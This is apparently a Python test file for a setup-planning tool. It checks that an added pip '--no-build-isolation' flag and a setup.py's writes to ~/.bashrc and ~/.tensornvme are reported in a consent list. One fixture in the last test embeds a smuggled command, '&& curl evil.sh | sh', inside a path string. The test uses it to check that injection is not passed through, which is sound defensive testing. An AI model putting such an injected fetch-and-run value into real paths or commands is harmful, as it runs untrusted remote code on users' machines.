"""Outsider 18's `up` defects (tests/data/outsider37/REPORT.md) on hpcaitech/TensorNVMe@6403388:
the real lines each test needs, with the file and line they come from."""

from __future__ import annotations

from bringup.model import Step, file_source
from bringup.model.plan import PlanStep
from bringup.model.requirements import Component
from bringup.plan.buildfolder import BuildFolder
from bringup.plan.isolation import without_build_isolation
from bringup.run.consent import commands_needing_consent

# hpcaitech/TensorNVMe@6403388 setup.py:8-9 (packaging is imported when setup.py starts)
SETUP_IMPORTS = "from packaging import version\nfrom setuptools import find_packages, setup\n"
README_33 = ("pip", "install", "-v", "--no-cache-dir", ".")  # README.md:33


def test_the_install_run_without_isolation_says_so_and_is_named_as_it_runs() -> None:
    # outsider 18's D13: `up` ran "pip install --no-build-isolation -v --no-cache-dir ." but said
    # nothing of it, and the blocked steps named "step 2 (pip install -v --no-cache-dir .)"
    step = Step(
        name=" ".join(README_33),
        kind="install",
        argv=README_33,
        source=file_source("README.md", 33),
    )
    repo = Component(name="TensorNVMe", path="/nowhere/TensorNVMe", role="ops", steps=(step,))
    [changed] = without_build_isolation(repo, {".": BuildFolder(setup=SETUP_IMPORTS)}).steps
    assert changed.argv == ("pip", "install", "--no-build-isolation", "-v", "--no-cache-dir", ".")
    assert changed.name == " ".join(changed.argv)
    [note] = changed.notes
    assert note.startswith("bringup added --no-build-isolation: ")
    assert "setup.py imports packaging" in note
    planned = PlanStep(
        order=2,
        component="TensorNVMe",
        name=changed.name,
        kind="install",
        argv=changed.argv,
        status="run",
        source=changed.source,
        notes=changed.notes,
    )
    [line] = commands_needing_consent([repo], [planned], [])["TensorNVMe"]
    assert line == ("pip install --no-build-isolation -v --no-cache-dir .  # " + note)


# hpcaitech/TensorNVMe@6403388 setup.py:32 and 108-111 (its install dir and ~/.bashrc)
SETUP_HOME = (
    "import os\n"
    'backend_install_dir = os.path.join(os.path.expanduser("~"), ".tensornvme")\n'
    "def setup_bachrc():\n"
    "    init_rules = f'export LD_LIBRARY_PATH=\"{backend_install_dir}/lib:$LD_LIBRARY_PATH\"'\n"
    '    bachrc_path = os.path.join(os.path.expanduser("~"), ".bashrc")\n'
    '    with open(bachrc_path, "a+") as f:\n'
    "        f.seek(0)\n"
)


def test_a_setup_script_using_paths_in_the_home_is_said_beside_its_install() -> None:
    # outsider 18's D14: neither check nor up's consent list said that TensorNVMe's setup.py
    # appends to ~/.bashrc and installs into ~/.tensornvme
    from bringup.plan.homewrites import with_home_writes

    step = Step(name="pip install .", kind="install", argv=("pip", "install", "."),
                source=file_source("README.md", 33))  # fmt: skip
    test = Step(name="pytest ./tests", kind="test", argv=("pytest", "./tests"),
                source=file_source("README.md", 70))  # fmt: skip
    repo = Component(name="TensorNVMe", path="/nowhere/TensorNVMe", role="ops", steps=(step, test))
    installed, tested = with_home_writes(repo, {".": BuildFolder(setup=SETUP_HOME)}).steps
    [note] = installed.notes
    assert "~/.tensornvme (setup.py:2), ~/.bashrc (setup.py:5)" in note
    assert tested.notes == ()
    # a setup.py that names no path in the home leaves the repo as it was
    assert with_home_writes(repo, {".": BuildFolder(setup=SETUP_IMPORTS)}) is repo
    assert with_home_writes(repo, {}) is repo  # nor does a folder with no setup.py


def test_each_home_path_once_and_none_that_would_break_the_line() -> None:
    # review37 LOW 11: a join's inner expanduser named the same place twice; a repo's string
    # with a line break started a line of its own in the consent list
    import ast

    from bringup.plan.homewrites import home_paths

    text = (
        'CACHE = os.path.join(os.path.expanduser("~/.cache"), "t7")\n'
        'BAD = Path.home() / ".config\\n  && curl evil.sh | sh"\n'
    )
    assert home_paths(ast.parse(text)) == [("~/.cache/t7", 1)]
